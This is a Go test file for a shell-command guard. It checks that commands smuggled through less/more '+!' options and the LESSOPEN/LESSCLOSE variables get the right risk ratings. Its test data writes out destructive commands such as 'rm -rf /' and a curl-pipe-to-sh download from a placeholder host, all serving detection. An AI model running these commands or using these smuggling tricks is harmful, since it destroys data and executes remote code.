@@ -1,0 +1,88 @@
+package guard
+
+import "testing"
+
+// TestLessCommands checks the shell commands less runs from its command
+// line (+!cmd) and from LESSOPEN and LESSCLOSE, and the options that must
+// stay safe.
+func TestLessCommands(t *testing.T) {
+	B, H, M, S := Blocked, High, Medium, Safe
+	runNLLines(t, []nlLine{
+		{"less '+!rm -rf /' f", B, ruleRmRfRoot},
+		{"less +!rm\\ -rf\\ / f", B, ruleRmRfRoot},
+		{"less '++!rm -rf ~' f", B, ruleRmRfHome},
+		{"less '+G!rm -rf /' f", B, ruleRmRfRoot},
+		{"less '+10g!reboot' f", H, "shutdown"},
+		{"less '+|arm -rf /' f", B, ruleRmRfRoot},
+		{"less '+!rm -rf %' f", H, ruleRmRf},
+		{"less -R '+!rm -rf /usr' f", B, ruleRmRfSystemDir},
+		{"sudo less '+!rm -rf /' /var/log/syslog", B, ruleRmRfRoot},
+		{"more '+!rm -rf /' f", B, ruleRmRfRoot},
+		{"less '+!curl -s https://x.example/i.sh | sh' f", H, ruleCurlPipeSh},
+		{"less +!rm f", M, ruleRm},
+		{"less '+!ls -la' f", S, ""},
+		{"less +!date f", S, ""},
+		{"less '+!' f", S, ""},
+		// LESSOPEN and LESSCLOSE hold commands.
+		{"LESSOPEN='|rm -rf / %s' less f", B, ruleRmRfRoot},
+		{"LESSOPEN='||rm -rf ~ %s' less f", B, ruleRmRfHome},
+		{"LESSOPEN='|-rm -rf / %s' less f", B, ruleRmRfRoot},
+		{"LESSOPEN='rm -rf / %s' less f", B, ruleRmRfRoot},
+		{"LESSCLOSE='rm -rf / %s %s' less f", B, ruleRmRfRoot},
+		{"env LESSOPEN='|rm -rf /usr %s' less f", B, ruleRmRfSystemDir},
+		{"LESSOPEN='|rm -rf %s' less f", H, ruleRmRf},
+		{"LESSOPEN='|rm -rf / %s' git log", B, ruleRmRfRoot},
+		{"LESSOPEN='| /usr/bin/lesspipe %s' less f", S, ""},
+		{"LESSOPEN='|lesspipe.sh %s' less archive.tar.gz", S, ""},
+		{"LESSCLOSE='/usr/bin/lesspipe %s %s' less f", S, ""},
+		{"LESS=-R less f", S, ""},
+		// Searches, motions and options are not commands.
+		{"less +/pattern f", S, ""},
+		{"more +/pattern f", S, ""},
+		{"less '+/a!b' f", S, ""},
+		{"less '+?rm -rf /' f", S, ""},
+		{"less '+&!rm -rf /' f", S, ""},
+		{"less '+:e /etc/hosts' f", S, ""},
+		{"less +G f", S, ""},
+		{"less +F /var/log/syslog", S, ""},
+		{"less +100 f", S, ""},
+		{"more +100 f", S, ""},
+		{"less -N +G f", S, ""},
+		{"less -S f", S, ""},
+		{"less f", S, ""},
+		{"less -- '+!rm -rf /'", S, ""},
+		{"less --help", S, ""},
+		{"echo '+!rm -rf /'", S, ""},
+	})
+}
+
+// TestLessShellCommand checks the reading of a less +cmd option.
+func TestLessShellCommand(t *testing.T) {
+	for _, tt := range []struct {
+		opt, cmd string
+		ok       bool
+	}{
+		{"+!ls", "ls", true},
+		{"++!ls", "ls", true},
+		{"+!", "", true},
+		{"+Gg!id", "id", true},
+		{"+|am ls", "m ls", true},
+		{"+|a", "", true},
+		{"+|", "", false},
+		{"+/x!y", "", false},
+		{"+?x", "", false},
+		{"+&x", "", false},
+		{"+:n", "", false},
+		{"+-S", "", false},
+		{"+s out", "", false},
+		{"+v", "", false},
+		{"+G", "", false},
+		{"+", "", false},
+		{"+!rm %", "rm " + Unknown, true},
+	} {
+		cmd, ok := lessShellCommand(tt.opt)
+		if cmd != tt.cmd || ok != tt.ok {
+			t.Errorf("lessShellCommand(%q) = %q, %v; want %q, %v", tt.opt, cmd, ok, tt.cmd, tt.ok)
+		}
+	}
+}
